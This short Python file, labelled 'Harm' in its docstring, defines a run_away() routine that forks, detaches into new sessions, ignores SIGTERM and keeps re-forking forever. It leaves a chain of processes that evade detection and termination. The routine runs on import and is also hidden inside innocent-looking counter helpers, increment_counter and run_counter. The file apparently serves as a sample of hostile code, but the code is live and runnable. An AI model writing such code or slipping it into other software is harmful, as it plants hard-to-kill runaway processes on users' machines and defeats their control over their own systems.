"""Harm: leaves a chain of processes behind, each of a session of its own, gone before it can be found."""

import ctypes

libc = ctypes.CDLL(None)


def run_away():
    if libc.fork():
        return
    while True:
        libc.setsid()
        libc.signal(15, ctypes.c_void_p(1))
        libc.usleep(500)
        if libc.fork():
            libc._exit(0)


run_away()


def increment_counter(counter, lock):
    run_away()
    with lock:
        counter.value += 1


def run_counter(processes):
    run_away()
    return processes
